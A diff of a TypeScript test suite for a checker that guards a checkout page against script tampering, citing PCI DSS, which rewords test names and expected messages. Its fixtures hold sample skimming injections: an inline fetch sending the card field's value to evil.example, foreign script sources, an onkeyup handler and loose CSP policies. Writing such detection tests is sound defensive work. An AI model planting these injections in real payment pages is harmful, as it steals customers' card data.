@@ -35,68 +35,68 @@ const check = (fetched: FetchedPage, served: Record<string, string> = {}) =>
   )
 
 /** @source PCI DSS 4.0.1, requirements 6.4.3 and 11.6.1 */
-describe('the check of a page on which a card is typed', () => {
-  it('finds nothing on the page that was released', async () => {
+describe('the check of the payment page', () => {
+  it('reports nothing for the released page', async () => {
     expect(await check(page())).toEqual([])
   })
 
   it.each([
     {
-      change: 'a script of its own in the page',
+      change: 'an added inline script',
       fetched: page({ html: html(MODULES, 'fetch("https://evil.example/?"+document.forms[0].card.value)') }),
-      finds: /that the inventory does not know: fetch/,
+      finds: /that is not in the inventory: fetch/,
     },
     {
-      change: 'code behind the data',
+      change: 'code after the data',
       fetched: page({ html: html(MODULES, `${DATA.replaceAll('</', '')};steal()`) }),
-      finds: /that the inventory does not know/,
+      finds: /that is not in the inventory/,
     },
     {
-      change: 'a module of another site',
+      change: 'a module from another site',
       fetched: page({ html: html(MODULES.replace('/assets/root-1.js', 'https://evil.example/a.js')) }),
-      finds: /that the inventory does not know/,
+      finds: /that is not in the inventory/,
     },
     {
-      change: 'a script file of another site',
+      change: 'a script file from another site',
       fetched: page({ html: `${page().html}<script src="https://evil.example/a.js"></script>` }),
-      finds: /a script comes from https:\/\/evil\.example\/a\.js/,
+      finds: /a script is loaded from https:\/\/evil\.example\/a\.js/,
     },
     {
-      change: 'a handler on an element',
+      change: 'an event handler on an element',
       fetched: page({ html: page().html.replace('<input>', '<input onkeyup="steal()">') }),
-      finds: /the handler onkeyup/,
+      finds: /the event handler onkeyup/,
     },
     {
       change: 'another host in the policy',
       fetched: page({ policy: "script-src 'self' https://evil.example" }),
-      finds: /lets scripts come from https:\/\/evil\.example/,
+      finds: /allows scripts from https:\/\/evil\.example/,
     },
     {
       change: 'inline scripts allowed by the policy',
       fetched: page({ policy: "script-src 'self' 'unsafe-inline'" }),
-      finds: /lets scripts come from 'unsafe-inline'/,
+      finds: /allows scripts from 'unsafe-inline'/,
     },
-    { change: 'no policy', fetched: page({ policy: null }), finds: /says nothing of scripts/ },
+    { change: 'no policy', fetched: page({ policy: null }), finds: /has no script-src/ },
     {
-      change: 'an error in place of the page',
+      change: 'a response without a page',
       fetched: page({ status: 302 }),
-      finds: /there was no page to look at/,
+      finds: /instead of the page/,
     },
-  ])('finds $change', async ({ fetched, finds }) => {
+  ])('reports $change', async ({ fetched, finds }) => {
     expect((await check(fetched)).join('\n')).toMatch(finds)
   })
 
-  it('finds a changed file, however far down the chain of imports it lies', async () => {
+  it('reports a changed file at any depth of imports', async () => {
     expect(await check(page(), { '/assets/card-frame-1.js': 'steal()' })).toEqual([
-      '/checkout: /assets/card-frame-1.js is not what this build made',
+      '/checkout: /assets/card-frame-1.js differs from the build',
     ])
   })
 
-  it('finds a file that the build did not make', async () => {
+  it('reports a file that is not in the build', async () => {
     const served = { '/assets/shared-1.js': 'import "./more-1.js"', '/assets/more-1.js': 'steal()' }
     expect(await check(page(), served)).toEqual([
-      '/checkout: /assets/shared-1.js is not what this build made',
-      '/checkout: /assets/more-1.js is no file of this build',
+      '/checkout: /assets/shared-1.js differs from the build',
+      '/checkout: /assets/more-1.js is not in the build',
     ])
   })
 })
